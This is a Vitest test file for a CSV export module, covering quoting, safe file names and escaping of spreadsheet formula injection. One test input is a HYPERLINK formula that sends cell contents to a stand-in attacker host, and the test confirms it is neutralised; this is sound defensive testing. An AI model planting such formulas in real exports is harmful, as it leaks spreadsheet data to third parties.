import { describe, expect, it } from 'vitest';
import { csvFileName, spreadsheetText, toCsv } from './csv.js';

describe('CSV export', () => {
  it('writes a header and one line per row, quoting only what needs it', () => {
    const csv = toCsv(
      [
        { header: 'Department', value: (row: { name: string; csat: number | null }) => row.name },
        { header: 'CSAT', value: (row) => row.csat },
      ],
      [
        { name: 'IT', csat: 0.8 },
        { name: 'Fees, "billing"\nand more', csat: null },
      ],
    );
    expect(csv).toBe('Department,CSAT\r\nIT,0.8\r\n"Fees, ""billing""\nand more",\r\n');
  });

  it('never lets a spreadsheet run a cell: text starting with = + - @, a tab or a carriage return is kept as text', () => {
    const csv = toCsv(
      [
        { header: 'Category', value: (row: { name: string; gap: number }) => row.name },
        { header: 'Gap', value: (row) => row.gap },
      ],
      [
        { name: '=HYPERLINK("http://evil.example/?leak="&A1,"Refund")', gap: -0.5 },
        { name: '@SUM(A1:A9)', gap: 1 },
      ],
    );
    expect(csv).toBe('Category,Gap\r\n"\'=HYPERLINK(""http://evil.example/?leak=""&A1,""Refund"")",-0.5\r\n\'@SUM(A1:A9),1\r\n');
    expect(['+1', '-1 day', '\tnote', '\r=1+1'].map(spreadsheetText)).toEqual(["'+1", "'-1 day", "'\tnote", "'\r=1+1"]);
    expect(['Printing', 'IT', 'a=b', ''].map(spreadsheetText)).toEqual(['Printing', 'IT', 'a=b', '']);
    expect(spreadsheetText(-3)).toBe('-3');
  });

  it('names a file by its chart, whose numbers and which period, in characters every file system takes', () => {
    expect(csvFileName('SLA compliance', 'Financial Aid', '2026-10-12 to 2026-12-06')).toBe(
      'sla-compliance_financial-aid_2026-10-12-to-2026-12-06.csv',
    );
    expect(csvFileName('Volume by category', 'Études & Bourses / Aide', 'on 2026-12-07')).toBe(
      'volume-by-category_etudes-bourses-aide_on-2026-12-07.csv',
    );
    expect(csvFileName('Backlog age', '', '2026-12-07')).toBe('backlog-age_2026-12-07.csv');
  });
});
